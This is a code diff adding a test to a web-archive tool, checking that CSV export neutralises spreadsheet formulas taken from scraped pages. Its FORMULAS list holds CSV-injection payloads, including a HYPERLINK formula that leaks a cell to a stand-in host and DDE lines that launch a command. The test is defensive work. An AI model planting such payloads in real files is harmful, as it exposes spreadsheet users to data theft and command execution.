@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+from dataclasses import replace
 from pathlib import Path
 
 import jsonschema
@@ -13,7 +14,7 @@ from click.testing import CliRunner
 
 from archive.cli import cli
 from archive.export import CSV_COLUMNS
-from archive.store import ArchiveStore
+from archive.store import ArchiveStore, Capture
 from tests import research
 from tests.conftest import SCHEMA, run_cli
 
@@ -151,3 +152,37 @@ def test_thousands_of_flat_negations_and_alternatives_run_on_both_databases(db_u
         result = run_cli("search", query, "--json", "--db", db_url, check=False)
         assert result.returncode == 0, result.stderr[-500:]
         assert result.stdout == plain
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "\t=1+1", "\r=1+1"]
+
+
+def test_csv_export_defuses_spreadsheet_formulas(tmp_path: Path) -> None:
+    """Titles, descriptions, authors and bodies from other people's pages that a spreadsheet would
+    run as formulas get a leading ' (OWASP); --csv-raw writes them as stored; JSON lines are untouched."""
+    db = f"sqlite:///{tmp_path / 'a.db'}"
+    store = ArchiveStore.open(db)
+    for i, formula in enumerate(FORMULAS):
+        extracted = research.page(f"https://news.example.com/f/{i}.html", formula, formula + "\n\nA paragraph.",
+                                  "2025-01-10T15:00:00", authors=(formula,))
+        store.save(replace(extracted, description=formula), Capture(url=extracted.url, fetched_at=research.utc("2025-01-11T00:00:00")))
+    store.close()
+    run_cli("export", "--with-body", "-o", str(tmp_path / "f.csv"), "--db", db)
+    with open(tmp_path / "f.csv", newline="", encoding="utf-8") as handle:
+        text = handle.read()
+    rows = sorted(csv.DictReader(io.StringIO(text, newline="")), key=lambda r: r["url"])
+    assert [r["title"] for r in rows] == ["'" + f.strip() for f in FORMULAS]  # titles are stored stripped
+    assert [r["description"] for r in rows] == ["'" + f for f in FORMULAS]
+    for row in rows:
+        for column in ("title", "description", "authors", "body"):
+            assert row[column].startswith("'"), (column, row[column])
+        assert row["url"].startswith("https://")  # cells that start no formula are as they were
+    stdout = run_cli("export", "--with-body", "--format", "csv", "-o", "-", "--db", db).stdout
+    assert stdout == text.replace("\r\n", "\n").replace("\r", "\n")  # the same, read with universal newlines
+    run_cli("export", "--with-body", "--csv-raw", "-o", str(tmp_path / "raw.csv"), "--db", db)
+    with open(tmp_path / "raw.csv", newline="", encoding="utf-8") as handle:
+        rows = sorted(csv.DictReader(handle), key=lambda r: r["url"])
+    assert [r["description"] for r in rows] == FORMULAS
+    lines = run_cli("export", "-o", "-", "--db", db).stdout
+    assert sorted(json.loads(line)["description"] for line in lines.splitlines()) == sorted(FORMULAS)
